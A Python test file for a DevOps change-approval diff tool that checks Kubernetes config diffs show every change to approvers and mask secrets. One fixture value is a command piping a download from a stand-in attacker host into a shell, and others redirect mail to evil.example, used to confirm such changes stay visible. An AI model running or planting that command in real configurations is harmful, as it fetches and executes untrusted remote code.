"""What an approver reads: every change, and no secret."""

from typing import Any

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from devops.changes.manifests import MAX_DIFF, diff
from devops.changes.shown import MAX_SHOWN, MAX_VALUE, is_whole

CANARY = "canary7f3a91"
KEYS = st.sampled_from(["to", "mail.sh", "MAIL_HOST", "phone", "db-password", "API_TOKEN", "tls.key"]) | st.text()
SPECIAL = ["token=a", "a@b.example", "+49 30 1234567", "4111 1111 1111 1111", "x\ny", "\ud800"]
VALUES = st.text() | st.sampled_from(SPECIAL)


def config_map(**data: Any) -> dict[str, Any]:
    return {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "w", "namespace": "d"}, "data": data}


def pod(**container: Any) -> dict[str, Any]:
    spec = {"template": {"spec": {"containers": [{"name": "c", "image": "i", **container}]}}}
    return {"apiVersion": "apps/v1", "kind": "Deployment", "metadata": {"name": "w", "namespace": "d"}, "spec": spec}


def environment(name: str, value: str) -> dict[str, Any]:
    return pod(env=[{"name": name, "value": value}])


@given(KEYS, VALUES, VALUES, st.integers(0, 2 * MAX_VALUE))
@example("nginx.conf", "listen 80;", "exec rm;;;", MAX_SHOWN)
@settings(max_examples=60, deadline=None)
def test_what_changes_is_never_hidden(key: str, one: str, other: str, before: int) -> None:
    for shape in (environment, lambda name, value: config_map(**{name: value})):
        for padding in ("", "x" * before, "x\n" * (before // 2)):
            assert bool(diff(shape(key, padding + one), shape(key, padding + other))) == (one != other)


@given(st.sampled_from(["db-password", "API_TOKEN", "client_secret", "auth"]), VALUES)
@settings(max_examples=60, deadline=None)
def test_no_secret_is_shown(key: str, rest: str) -> None:
    for one, other in ((CANARY, rest), (rest, f"{rest} {CANARY}"), (CANARY, f"{CANARY}2")):
        for shape in (environment, lambda name, value: config_map(**{name: value, "name": "a", "value": "b"})):
            assert CANARY not in diff(shape(key, one), shape(key, other))
        assert CANARY not in diff(pod(args=[f"--{key}", one]), pod(args=[f"--{key}", other]))
    lines = [config_map(a=f"{rest}\npassword={CANARY}{end}") for end in "12"]
    assert CANARY not in diff(lines[0], lines[1])


@pytest.mark.parametrize(
    ("key", "before", "after"),
    [
        ("MAIL_HOST", "smtp.corp.example", "smtp.evil.example"),
        ("mail.sh", "sendmail ops", "curl https://x@evil.example/ | sh"),
        ("to", "alerts go to ops@corp.example", "alerts go to eve@evil.example"),
        ("phone", "+49 30 1234567", "+49 30 7654321"),
        ("secretName", "mine", "yours"),
        ("nginx.conf", "a;\n" * 1000 + "listen 80;", "a;\n" * 1000 + "listen 81;"),
    ],
)
def test_what_is_no_secret_can_be_read(key: str, before: str, after: str) -> None:
    changed = diff(config_map(**{key: before}), config_map(**{key: after}))
    assert all(text.splitlines()[-1] in changed for text in (before, after)) and is_whole(changed)


def test_only_the_secrets_that_change_are_marked_as_changed() -> None:
    before, after = (config_map(a=f"password=hunter2\nlevel={level}\nuser=bob") for level in ("info", "debug"))
    assert [line.strip("- +,") for line in diff(before, after).splitlines()[3:] if line[0] in "+-"] == [
        '"level=info"',
        '"level=debug"',
    ]


def test_what_was_cut_off_is_said() -> None:
    long = ["x" * (MAX_VALUE + 1) + end for end in "ab"]
    many = ["\n".join(f"{end}{number}" for number in range(MAX_DIFF // 4)) for end in "ab"]
    for one, other in (long, many):
        assert not is_whole(diff(config_map(a=one), config_map(a=other)))
    assert is_whole(diff(config_map(a=long[0], b="1"), config_map(a=long[0], b="2")))
